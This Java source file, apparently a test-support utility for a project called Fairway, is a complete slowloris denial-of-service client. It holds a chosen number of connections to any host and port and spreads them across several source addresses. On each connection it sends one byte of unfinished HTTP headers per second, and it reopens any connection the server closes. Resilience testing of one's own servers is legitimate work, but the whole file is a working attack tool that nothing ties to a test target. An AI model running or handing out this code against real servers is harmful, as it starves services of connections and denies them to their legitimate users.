package dev.fairway.support;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * A slowloris client, as a process of its own (a process may hold only so many sockets): holds
 * {@code count} connections to {@code host:port}, spread over the source addresses given, and sends
 * each a byte of a request's headers every second, never finishing them. A connection the server
 * closes is opened again two seconds later. Prints "open N" every second.
 *
 * <p>Usage: {@code Slowloris <host> <port> <count> <source address>...}
 */
public final class Slowloris {

    private static final byte[] HEADERS = "GET /api/ping HTTP/1.1\r\nHost: fairway\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);

    private Slowloris() {
    }

    /** One trickling connection. */
    private static final class Trickle {
        final InetSocketAddress from;
        SocketChannel channel;
        int sent;
        long reopenAt;

        Trickle(InetSocketAddress from) {
            this.from = from;
        }
    }

    public static void main(String[] args) throws Exception {
        InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
        int count = Integer.parseInt(args[2]);
        List<Trickle> trickles = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            trickles.add(new Trickle(new InetSocketAddress(args[3 + i % (args.length - 3)], 0)));
        }
        while (true) {
            long now = System.nanoTime();
            int open = 0;
            for (Trickle trickle : trickles) {
                if (trickle.channel == null && now >= trickle.reopenAt) {
                    open(trickle, target);
                } else if (trickle.channel != null) {
                    trickleOn(trickle, now);
                }
                open += trickle.channel != null && trickle.channel.isConnected() ? 1 : 0;
            }
            System.out.println("open " + open);
            System.out.flush();
            Thread.sleep(1000);
        }
    }

    private static void open(Trickle trickle, InetSocketAddress target) {
        try {
            SocketChannel channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.bind(trickle.from);
            channel.connect(target);
            trickle.channel = channel;
            trickle.sent = 0;
        } catch (IOException e) {
            trickle.reopenAt = System.nanoTime() + 2_000_000_000L;
        }
    }

    private static void trickleOn(Trickle trickle, long now) {
        try {
            SocketChannel channel = trickle.channel;
            if (channel.isConnectionPending() && !channel.finishConnect()) {
                return;
            }
            ByteBuffer closed = ByteBuffer.allocate(1);
            if (channel.read(closed) < 0) {
                throw new IOException("closed by the server");
            }
            channel.write(ByteBuffer.wrap(HEADERS, trickle.sent % HEADERS.length, 1));
            trickle.sent++;
        } catch (IOException e) {
            try {
                trickle.channel.close();
            } catch (IOException ignored) {
                // it is gone either way
            }
            trickle.channel = null;
            trickle.reopenAt = now + 2_000_000_000L;
        }
    }
}
